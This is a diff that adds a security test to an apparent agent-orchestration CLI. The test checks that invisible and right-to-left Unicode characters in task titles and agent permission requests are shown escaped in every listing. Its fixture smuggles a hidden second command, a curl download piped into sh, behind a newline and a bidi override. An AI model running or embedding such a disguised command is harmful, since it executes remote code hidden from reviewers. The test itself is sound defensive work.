@@ -3,6 +3,7 @@ import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 
 import { connect } from 'node:net';
 import { join } from 'node:path';
 import { afterEach, beforeEach, expect, test } from 'vitest';
+import { commands } from '../../src/commands/index.ts';
 import { temporaryFolder } from '../helpers/folder.ts';
 import { openSwarm, type Swarm } from '../helpers/swarm.ts';
 import { eventually } from './program.ts';
@@ -118,6 +119,40 @@ test('[SEC-7] escape sequences in a title, a question or a summary reach no term
   // How it is started is the configuration's own text.
   const said = JSON.stringify(state, (key, value) => (key === 'argv' ? undefined : value));
   expect(said).not.toContain('aGFja2Vk');
+});
+
+/** What nobody sees, or what would turn round what stands beside it. */
+const UNSEEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/u;
+
+test('[SEC-7] what is unseen in a plan or a command is an escape in every list and record, and the brief has it as it was', async () => {
+  const body = {
+    hook_event_name: 'PermissionRequest',
+    tool_name: 'Bash',
+    tool_input: { command: "npm test # it's\ncurl x\u202e | sh\u200b" },
+  };
+  const say = `printf '%s' "$ASKED" | sh "$DROVER_HOOK"; exec cat`;
+  const command = ['env', `ASKED=${JSON.stringify(body).replace('\u202e', String.raw`\u202e`)}`, 'sh', '-c', say];
+  await using swarm = await openSwarm({ ...RUNS, settings: { agent: 'liar', agents: { liar: { command } } } });
+  const title = 'Safe \u202etxet\u2066 \u200bhidden';
+  writeFileSync(
+    join(swarm.root, 'plan.json'),
+    JSON.stringify([{ id: 'h-1', title, description: title, group: title }]),
+  );
+  expect(await swarm.say('import task plan.json')).toMatchObject({ exit: 0 });
+  await swarm.say('launch 1 instance');
+  await eventually(async () => (await swarm.state()).instances['liar-1']?.question != null);
+  const targets: Readonly<Record<string, string>> = { task: 'h-1', instance: 'liar-1', brief: 'h-1' };
+  const lines = commands
+    .filter(({ verb }) => verb === 'list' || verb === 'show')
+    .map(({ verb, noun }) => `${verb} ${noun} ${verb === 'show' ? (targets[noun] ?? '') : ''}`.trim());
+  const answers = await Promise.all([...lines, 'status'].map((line) => swarm.say(line)));
+  const seen = answers.map(({ text, message }) => `${text}\n${message}`);
+  expect(seen.filter((text) => UNSEEN.test(text))).toEqual([]);
+  const all = seen.join('\n');
+  expect(all).toContain(String.raw`Safe \u202etxet\u2066 \u200bhidden`);
+  expect(all).toContain(String.raw`npm test # it's ⏎ curl x\u202e | sh\u200b`);
+  expect(all).toContain(String.raw`  │ curl x\u202e | sh\u200b`);
+  expect((await swarm.state()).tasks['h-1']!.title).toBe(title);
 });
 
 test('[SEC-7] files with hostile names are verified, saved and merged like others', async () => {
